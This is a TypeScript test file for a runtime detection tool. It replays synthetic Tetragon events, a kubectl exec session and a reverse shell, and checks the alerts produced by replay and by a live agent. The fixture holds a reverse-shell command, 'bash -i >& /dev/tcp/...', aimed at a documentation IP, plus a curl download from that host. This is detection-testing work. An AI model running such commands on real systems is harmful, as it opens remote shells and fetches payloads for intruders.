/**
 * Alerts analysts can act on, end to end: Tetragon events (the shapes of ../shared/fixtures) →
 * the agent's pipeline (normalise, lineage, identity, edge filter) → the collector (unit of work,
 * detection, alerting) → the file sink, on the shipped defaults plus a learning window that fits
 * the recording and the sink.
 *
 * - a 12-command `kubectl exec` session: one alert, updated as the session grows, whose last
 *   version lists all 12 commands with their times and lineage;
 * - a reverse shell (high): sent without waiting for the grouping window; what follows in the
 *   workload joins it as updates, including a member that arrives after the first update;
 * - the same recording through `driftwatch replay` (alerting on event time, as live) and through a
 *   real agent and collector reading it flat out (thousands of times faster than it happened, on
 *   the wall clock): the same alerts with the same members.
 */
import t from 'tap';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import type { AlertDocumentV1 } from '../../collector/sinks/document.js';
import { readAlertFile } from '../helpers/alerting.js';
import { run } from '../helpers/cli-run.js';
import { eventually, freePort, spawnCli } from '../helpers/processes.js';
import { ClusterRecorder, IMAGES, T0 } from '../helpers/scenario.js';
import { SESSION_COMMANDS } from '../helpers/session-commands.js';

const MIN = 60_000;
const at = (minutes: number, seconds = 0): number => T0 + minutes * MIN + seconds * 1000;

/** The commands typed after the session's shell. */
const SESSION = SESSION_COMMANDS.slice(1);

function recording(): { jsonl: string; sessionTimes: number[] } {
  const r = new ClusterRecorder();
  const days = (n: number): number => T0 - n * 86_400_000;
  const web = r.pod({ namespace: 'shop', name: 'web-6d8f9b7c5-x2k9p', workload: 'web', kind: 'Deployment', container: 'nginx', image: IMAGES.nginx, node: 'node-a', ip: '10.244.1.11', containerStart: days(3) });
  const db = r.pod({ namespace: 'shop', name: 'db-0', workload: 'db', kind: 'StatefulSet', container: 'postgres', image: IMAGES.postgres, node: 'node-a', ip: '10.244.1.50', containerStart: days(9) });
  const nginx = r.procFs(at(0), web, '/usr/sbin/nginx', '-g daemon off;');
  const postgres = r.procFs(at(0), db, '/usr/lib/postgresql/16/bin/postgres', '-D /var/lib/postgresql/data');
  // Learning (30 minutes): their ordinary traffic, which goes on all along.
  for (let m = 1; m < 80; m += 5) {
    r.connect(at(m), nginx, '10.96.12.40', 8080);
    r.connect(at(m, 30), postgres, '10.96.30.5', 5432);
  }
  // A kubectl exec into the database: bash and eleven commands, ten seconds apart.
  const runc = r.runcExec(at(60), db);
  const bash = r.exec(at(60), db, '/bin/bash', '', runc, { inInitTree: false });
  const sessionTimes = [at(60)];
  SESSION.forEach(([bin, args], i) => {
    const cmd = r.exec(at(60, 10 + i * 10), db, bin, args, bash, { inInitTree: false });
    sessionTimes.push(at(60, 10 + i * 10));
    r.exit(at(60, 12 + i * 10), cmd);
  });
  r.exit(at(62, 30), bash);
  // A reverse shell in web: nginx → sh -c → bash -i, connecting out; a download 90 s later.
  const sh = r.exec(at(70), web, '/bin/sh', '-c bash -i >& /dev/tcp/198.51.100.66/4444 0>&1', nginx, { uid: 101 });
  const shell = r.exec(at(70, 1), web, '/bin/bash', '-i', sh, { uid: 101 });
  r.connect(at(70, 2), shell, '198.51.100.66', 4444);
  r.exec(at(71, 30), web, '/usr/bin/curl', '-so /tmp/x https://198.51.100.66/x', shell, { uid: 101 });
  return { jsonl: r.stream().map((e) => JSON.stringify(e)).join('\n').concat('\n'), sessionTimes };
}

/** Per alert key, its notifications in order. */
function byKey(docs: readonly AlertDocumentV1[]): Map<string, AlertDocumentV1[]> {
  const out = new Map<string, AlertDocumentV1[]>();
  for (const d of docs) out.set(d.key, [...(out.get(d.key) ?? []), d]);
  return out;
}

/** What each alert finally says: kind and members (item keys), independent of ids and key stamps. */
function grouping(docs: readonly AlertDocumentV1[]): string[] {
  return [...byKey(docs).values()]
    .map((list) => list[list.length - 1]!)
    .map((d) => `${d.kind} ${d.workload?.name}: ${d.deviations.map((x) => (x.kind === 'interactive-session' ? 'session' : x.itemKey)).sort().join(', ')}`)
    .sort();
}

const { jsonl, sessionTimes } = recording();

t.test('a session, a reverse shell and a late member through driftwatch replay (event time)', async (t) => {
  const dir = t.testdir({ baselines: {} });
  const events = join(dir, 'events.jsonl');
  writeFileSync(events, jsonl);
  const alerts = join(dir, 'alerts.jsonl');
  const config = join(dir, 'driftwatch.yaml');
  writeFileSync(config, stringify({ cluster: 'demo', collector: { learning: { window: '30m' }, alerting: { sinks: [{ name: 'file', type: 'file', path: alerts }] } } }));
  const r = await run(null, ['replay', events, '-c', config, '--baselines', join(dir, 'baselines'), '--deliver', '-o', 'json']);
  t.equal(r.code, 0, r.err);
  const docs = readAlertFile(alerts);
  const keys = byKey(docs);

  await t.test('the 12-command session: one alert, updated, its last version listing every command with its time', async (t) => {
    const session = [...keys.values()].find((list) => list[0]!.deviations[0]?.kind === 'interactive-session')!;
    t.ok(session, 'a session alert');
    t.equal(session[0]!.reason, 'new');
    t.ok(session.length > 1 && session.slice(1).every((d) => d.reason === 'update'), 'then updates of the same alert');
    t.same(session.map((d) => d.sequence), session.map((_d, i) => i + 1), 'numbered in order');
    const last = session[session.length - 1]!.deviations[0]!;
    t.equal(last.commands?.length, 12, 'all twelve commands');
    t.equal(last.commandsMore, 0, 'none left out');
    t.same(last.commands!.map((c) => c.time), sessionTimes.map((ms) => new Date(ms).toISOString()), 'each with its own event time');
    t.same(last.commands!.map((c) => c.exe), ['/bin/bash', ...SESSION.map(([bin]) => bin)]);
    t.equal(last.commands![11]!.args, SESSION[10]![1], 'with its arguments');
    t.match(last.commands![1]!.lineage, ['/bin/bash'], 'and its lineage: the session shell first');
    t.match(last.summary, /interactive session: 12 commands/);
  });

  await t.test('the reverse shell: sent at once, what follows joins it as updates', async (t) => {
    const shell = [...keys.values()].find((list) => list[0]!.workload?.name === 'web')!;
    t.ok(shell, 'an alert for web');
    t.match(shell[0], { kind: 'group', severity: 'high', reason: 'new', sequence: 1 });
    t.same(shell[0]!.deviations.map((d) => d.itemKey), ['p|/bin/sh'], 'the first notification did not wait for the bash and the connection a second later');
    const last = shell[shell.length - 1]!;
    t.equal(last.reason, 'update');
    t.same(last.deviations.map((d) => d.itemKey).sort(), ['n|egress|tcp|4444|ip|198.51.100.66', 'p|/bin/bash', 'p|/bin/sh', 'p|/usr/bin/curl'].sort(), 'every member, the late download included');
    const withCurl = shell.findIndex((d) => d.deviations.some((x) => x.itemKey === 'p|/usr/bin/curl'));
    t.ok(withCurl > 0 && shell[withCurl]!.reason === 'update', 'the late member is told as an update of the alert');
    t.equal([...keys.values()].filter((list) => list[0]!.workload?.name === 'web').length, 1, 'one alert for the workload');
  });

  await t.test('the same recording, read by a real agent and collector thousands of times faster than it happened: the same alerts', async (t) => {
    const live = join(dir, 'live');
    mkdirSync(live);
    const liveAlerts = join(live, 'alerts.jsonl');
    const grpcPort = await freePort();
    const liveConfig = join(live, 'driftwatch.yaml');
    writeFileSync(
      liveConfig,
      stringify({
        cluster: 'demo',
        log: { level: 'info', format: 'json' },
        collector: {
          dataDir: join(live, 'data'),
          baselinesDir: join(dir, 'baselines'),
          grpc: { listen: `127.0.0.1:${grpcPort}` },
          http: { listen: '127.0.0.1:0' },
          learning: { window: '30m' },
          // Updates only say sooner what the replay's last versions say: grouping does not depend on it.
          alerting: { updateInterval: '1s', sinks: [{ name: 'file', type: 'file', path: liveAlerts }] },
        },
        agent: { node: 'node-a', collector: { address: `127.0.0.1:${grpcPort}` }, sources: [{ kind: 'tetragon-json', address: events }], http: { listen: '127.0.0.1:0' }, kubernetes: { mode: 'off' } },
      }),
    );
    const collector = spawnCli(['collector', '--config', liveConfig]);
    let agent: ReturnType<typeof spawnCli> | undefined;
    t.teardown(async () => {
      await agent?.stop('SIGKILL');
      await collector.stop('SIGKILL');
    });
    await collector.waitForLog(/collector ready/, 120_000);
    agent = spawnCli(['agent', '--config', liveConfig]);
    const expected = grouping(docs);
    // Done when every alert says what the replay's said (updates follow within the update interval).
    await eventually(() => grouping(readAlertFile(liveAlerts)).join('\n') === expected.join('\n'), 'the same alerts as the replay', 60_000).catch(() => undefined);
    t.same(grouping(readAlertFile(liveAlerts)), expected, 'same alerts, same members');
    t.equal(await agent.stop(), 0);
    t.equal(await collector.stop(), 0);
  });
});
